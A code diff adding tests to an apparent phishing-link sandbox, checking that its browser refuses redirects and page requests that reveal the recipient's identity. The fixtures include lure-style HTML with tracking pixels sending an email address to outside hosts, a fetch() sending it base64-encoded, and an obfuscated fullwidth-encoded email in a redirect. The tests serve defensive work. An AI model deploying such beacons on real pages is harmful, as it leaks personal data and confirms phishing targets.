@@ -20,6 +20,8 @@ from mekiki.collect.page import browser, capture, sandbox, visit
 from mekiki.collect.page.browser import House
 from mekiki.collect.page.cell import cell_of, family
 from mekiki.collect.page.glass import Glass
+from mekiki.collect.recipient import Recipient
+from mekiki.collect.telling import Traits
 from mekiki.model.evidence import Known
 from mekiki.rehearsal.internet import SmallInternet
 from mekiki.rehearsal.world import Page
@@ -304,6 +306,52 @@ def test_a_redirect_that_would_act_for_the_reader_is_not_followed(house: House) 
     for view in views.values():
         assert view["outcome"] == "blocked"
         assert view["why"].startswith("not followed: ")
+
+
+HANAKO = Recipient(
+    ("hanako.mori@kitamachi.example",), Traits(("kitamachi.example",), ("Hanako Mori",), ("hanako",), ("kitamachi",))
+)
+
+
+@pytest.mark.parametrize(
+    "onward",
+    [
+        "/login?e=hanako.mori%40kitamachi.example", "/login?e=%EF%BD%88%61%6E%61%6B%6F%2E%6D%6F%72%69%EF%BC%A0kitamachi.example",
+        "/login?n=Hanako+Mori", "https://kitamachi-example.other.example/",
+    ],
+)  # fmt: skip
+def test_a_redirect_that_carries_the_reader_on_is_not_followed(onward: str, house: House) -> None:
+    """By a key that had to be left in the link its server knows to whom it was sent; it is not told that it is right."""
+    pages = page("/", "", 302, {"location": onward}), page("/login*", LOGIN)
+    with SmallInternet(world_of(*pages)) as net:
+        gateway, _ = gateway_of(net, house, budget=40.0)
+        answer = collected(gateway, recipient=HANAKO)
+        asked_for = {hit.asked for hit in net.asked("https")}
+        resolved = {hit.host for hit in net.asked("dns")}
+    for view in answer.value["views"]:
+        assert (view["outcome"], view["why"]) == ("blocked", "refused by the gate: it names the recipient")
+    assert asked_for <= {"/", "/favicon.ico"}
+    assert resolved == {"lure.example"}
+
+
+def test_nothing_that_a_page_loads_or_leads_to_carries_him_either(house: House) -> None:
+    told = "hanako.mori@kitamachi.example"
+    html = (
+        f"<title>Welcome</title><p>words<img src='/seen.gif?e={told}'><img src='https://other.example/{told}.png'>"
+        f"<script>fetch('/x?n=' + btoa('{told}')).catch(() => 0);"
+        "setTimeout(() => { location = '/in?n=Hanako+Mori' }, 2000)</script>"
+    )
+    with SmallInternet(world_of(page("/", html), page("/*", "x"))) as net:
+        gateway, _ = gateway_of(net, house, budget=40.0)
+        answer = collected(gateway, recipient=HANAKO)
+        asked_for = [hit.asked for hit in (*net.asked("https"), *net.asked("http"))]
+    assert set(asked_for) <= {"/", "/favicon.ico"}
+    phone, desktop, plain = answer.value["views"]
+    for view in (phone, desktop):
+        assert (view["outcome"], view["title"]) == ("page", "Welcome")
+        assert view["why"] == "refused by the gate: it names the recipient"  # of the step that was not made
+        assert {why for _, why in view["refused"]} == {"refused by the gate: it names the recipient"}
+    assert plain["outcome"] == "page"
 
 
 def test_the_ledger_tells_what_the_browser_fetched_and_what_it_was_not_let(house: House) -> None:
